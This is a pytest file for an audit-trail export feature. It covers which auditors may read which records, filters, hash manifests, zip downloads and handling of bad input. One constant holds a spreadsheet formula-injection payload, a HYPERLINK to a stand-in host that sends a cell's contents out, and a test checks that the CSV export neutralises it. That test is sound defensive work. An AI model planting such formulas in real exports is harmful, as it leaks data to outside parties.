"""Exports of the audit trail: what each reader may read, filters, the manifest, the UI's zip."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from sqlalchemy import select

from audit import export
from cases.models import Case
from core.extensions import db
from demo.story import MEMO_KENMERK
from meetings.models import Note
from tests.audit.test_chain import own_database
from tests.conftest import find_body, in_app, user


def exported(app, email: str, **filters) -> list[dict]:
    with in_app(app):
        reader = user(email)
        connection = db.session.connection()
        return list(export.readable(connection, reader, export.ExportFilter(**filters)))


@pytest.mark.own_database
def test_the_regio_auditors_export_has_no_trace_of_the_memo_and_the_rijk_auditors_has(tmp_path):
    with own_database(tmp_path) as app:
        runner = app.test_cli_runner()
        files = {}
        for email in ("auditor@noord-brabant.test", "auditor@ezk.test"):
            target = tmp_path / f"{email}.jsonl"
            result = runner.invoke(
                args=["audit", "export", "--format", "jsonl", "--as", email, "--output", str(target)]
            )
            assert result.exit_code == 0, result.output
            files[email] = target.read_bytes()
            manifest = json.loads((tmp_path / f"{email}.jsonl.manifest.json").read_text())
            lines = files[email].decode().splitlines()
            assert manifest["sha256"] == hashlib.sha256(files[email]).hexdigest()
            assert manifest["records"] == len(lines) > 50
            assert manifest["first_seq"] == json.loads(lines[0])["id"]
            assert manifest["last_seq"] == json.loads(lines[-1])["id"] <= manifest["chain_head_seq"]
            assert len(manifest["chain_head_hash"]) == 64
        assert b"27293059" not in files["auditor@noord-brabant.test"]
        assert b"27293059" in files["auditor@ezk.test"]
        verified = runner.invoke(args=["audit", "verify"])
        assert verified.exit_code == 0  # the exports were recorded, and the chain still holds


@pytest.mark.own_database
def test_the_export_writes_csv_to_stdout_with_the_manifest_on_stderr(tmp_path):
    with own_database(tmp_path) as app:
        result = app.test_cli_runner().invoke(
            args=["audit", "export", "--format", "csv", "--as", "auditor@ezk.test", "--body", "rom-overleg"]
        )
        assert result.exit_code == 0
        rows = [line for line in result.stdout.splitlines() if line]
        assert rows[0].startswith("id,occurred_at,action,result,actor_user_id")
        assert '"sha256"' in result.stderr and "MIT-regeling" in result.stdout


def test_each_side_reads_its_own_internal_records_and_not_the_others(app):
    regio = exported(app, "auditor@noord-brabant.test")
    rijk = exported(app, "auditor@ezk.test")
    assert all(r["audience"] != "rijk" for r in regio) and all(r["audience"] != "regio" for r in rijk)
    with in_app(app):
        province_note = db.session.scalars(select(Note).where(Note.audience == "regio")).one().id
        confidential = db.session.scalars(select(Note).where(Note.audience == "vertrouwelijk")).one().id
    note_records = lambda rows, ident: [r for r in rows if r["object_type"] == "notes" and r["object_id"] == ident]  # noqa: E731
    assert note_records(regio, province_note) and not note_records(rijk, province_note)
    # Auditors are not named on the vertrouwelijk note: neither reads it, nor who it was shared with.
    for rows in (regio, rijk):
        assert not note_records(rows, confidential)
        assert not [r for r in rows if r["main_object"] == f"notes/{confidential}"]


def test_a_refusal_is_read_only_by_who_may_see_what_was_asked_for(app, clients):
    from meetings.models import Document

    with in_app(app):
        rijk_document = db.session.scalars(select(Document).where(Document.audience == "rijk")).first().id
    clients("economie@noord-brabant.test").get(f"/documenten/{rijk_document}/download")
    refusal = lambda rows: [r for r in rows if r["action"] == "access_refused" and r["object_id"] == rijk_document]  # noqa: E731
    assert refusal(exported(app, "auditor@ezk.test"))
    assert not refusal(exported(app, "auditor@noord-brabant.test"))


def test_sign_ins_are_read_by_the_auditors_of_the_same_side(app, clients):
    clients("beleid@ezk.test")
    clients("economie@noord-brabant.test")
    sign_ins = lambda rows, email: [r for r in rows if r["action"] == "login" and email in r["object_label"]]  # noqa: E731
    rijk, regio = exported(app, "auditor@ezk.test"), exported(app, "auditor@noord-brabant.test")
    assert sign_ins(rijk, "beleid@ezk.test") and not sign_ins(rijk, "economie@noord-brabant.test")
    assert sign_ins(regio, "economie@noord-brabant.test") and not sign_ins(regio, "beleid@ezk.test")


def test_filters_by_body_case_actor_and_period(app):
    with in_app(app):
        rom = find_body("rom-overleg").id
        memo = db.session.scalars(select(Case).where(Case.kenmerk == MEMO_KENMERK)).one().id
        author = user("beleid@ezk.test").id
    assert {r["body_id"] for r in exported(app, "auditor@ezk.test", body_id=rom)} == {rom}
    memo_rows = exported(app, "auditor@ezk.test", case_id=memo)
    assert memo_rows and all(r["object_id"] == memo or r["main_object"] == f"cases/{memo}" for r in memo_rows)
    assert not exported(app, "auditor@noord-brabant.test", case_id=memo)
    assert {r["actor_user_id"] for r in exported(app, "auditor@ezk.test", actor="beleid@ezk.test")} == {author}
    from datetime import date

    march = exported(app, "auditor@ezk.test", start=date(2023, 3, 14), end=date(2023, 3, 14))
    assert march and all(r["occurred_at"].date() == date(2023, 3, 14) for r in march)


def test_auditors_download_the_zip_with_its_manifest_in_the_browser(clients):
    response = clients("auditor@noord-brabant.test").post_form("/audit/export", {"form": "jsonl"})
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == ["audittrail.jsonl", "manifest.json"]
    data = archive.read("audittrail.jsonl")
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["records"] == len(data.splitlines()) and manifest["exported_for"] == "auditor@noord-brabant.test"
    assert b"27293059" not in data


@pytest.mark.parametrize(("email", "status"), [("beleid@ezk.test", 403), ("beheer@regiotafel.test", 200)])
def test_the_export_page_is_for_auditors_secretariats_and_beheer(clients, email, status):
    assert clients(email).get("/audit/export").status_code == status


def test_bad_filters_get_a_message_and_no_download(clients):
    response = clients("auditor@ezk.test").post_form(
        "/audit/export", {"form": "csv", "start": "2024-02-01", "end": "2024-01-01", "actor": "niemand"}
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "vóór de begindatum" in page and "geldig e-mailadres" in page


#: What a participant might type to have a spreadsheet send a cell's neighbours elsewhere.
FORMULA = '=HYPERLINK("https://evil.test/?d="&A1,"Klik")'


def _file(app, email: str, form: str, selection: export.ExportFilter) -> tuple[bytes, export.Manifest]:
    with in_app(app):
        reader = user(email)
        connection = db.session.connection()
        manifest = export.start(connection, reader.email, selection, form)
        data = b"".join(export.lines(export.readable(connection, reader, selection), form, manifest))
    return data, manifest


def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_exact_in_json_lines(app):
    from datetime import date

    from cases.models import CaseType
    from cases.services.cases import change_due_date, create_follow_up

    with in_app(app):
        bo = find_body()
        secretariat = user("secretariaat@ezk.test")
        action = create_follow_up(
            secretariat,
            bo,
            case_type=CaseType.ACTIEPUNT,
            title="Formuletest",
            owner_organisation_id=secretariat.organisation_id,
            due_date=date(2030, 1, 1),
        )
        change_due_date(secretariat, action, due_date=date(2030, 2, 1), reason=FORMULA)
        action_id = action.id
    selection = export.ExportFilter(case_id=action_id)
    csv_data, csv_manifest = _file(app, "auditor@noord-brabant.test", "csv", selection)
    jsonl_data, jsonl_manifest = _file(app, "auditor@noord-brabant.test", "jsonl", selection)

    for data, manifest in ((csv_data, csv_manifest), (jsonl_data, jsonl_manifest)):
        assert manifest.sha256 == hashlib.sha256(data).hexdigest()
    rows = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8"))))
    assert len(rows) == csv_manifest.records == jsonl_manifest.records > 1
    assert "'" + FORMULA in [row["reason"] for row in rows]
    assert not [cell for row in rows for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]
    records = [json.loads(line) for line in jsonl_data.splitlines()]
    assert FORMULA in [record["reason"] for record in records]


def _download(client, actor: str) -> tuple[bytes, dict]:
    response = client.post_form("/audit/export", {"form": "jsonl", "actor": actor})
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    manifest = json.loads(archive.read("manifest.json"))
    # What changes from one download to the next whatever is asked: the moment, the chain's head (each
    # export is recorded), and the address as typed.
    for moving in ("exported_at", "chain_head_seq", "chain_head_hash"):
        manifest.pop(moving)
    assert manifest["filters"].pop("actor") == actor
    return archive.read("audittrail.jsonl"), manifest


def test_the_actor_filter_does_not_tell_a_regio_auditor_which_rijk_addresses_have_an_account(app, clients):
    clients("directeur.top@ezk.test")  # a sign-in: a record the Rijk side reads, the regio side does not
    assert exported(app, "auditor@ezk.test", actor="directeur.top@ezk.test")
    auditor = clients("auditor@noord-brabant.test")
    hidden = _download(auditor, "directeur.top@ezk.test")
    assert hidden == _download(auditor, "nobody@nowhere.test") == (b"", hidden[1])
    assert hidden[1]["records"] == 0
    # An actor whose records the regio auditor reads is found across sides, and only those records.
    with in_app(app):
        secretary = user("secretariaat@ezk.test").id
    data, manifest = _download(auditor, "secretariaat@ezk.test")
    secretariat = [json.loads(line) for line in data.splitlines()]
    assert secretariat and {r["actor_user_id"] for r in secretariat} == {secretary}
    assert manifest["records"] == len(secretariat) and b"27293059" not in data


@pytest.mark.parametrize("blank", ["", "\r", " \t "])
def test_a_blank_format_is_the_default_not_a_500(clients, blank):
    """make drill-forms sent a carriage return as the format: Optional() let it through unchecked, and the
    export failed halfway through its stream."""
    response = clients("auditor@noord-brabant.test").post_form("/audit/export", {"form": blank})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        assert "audittrail.jsonl" in archive.namelist()
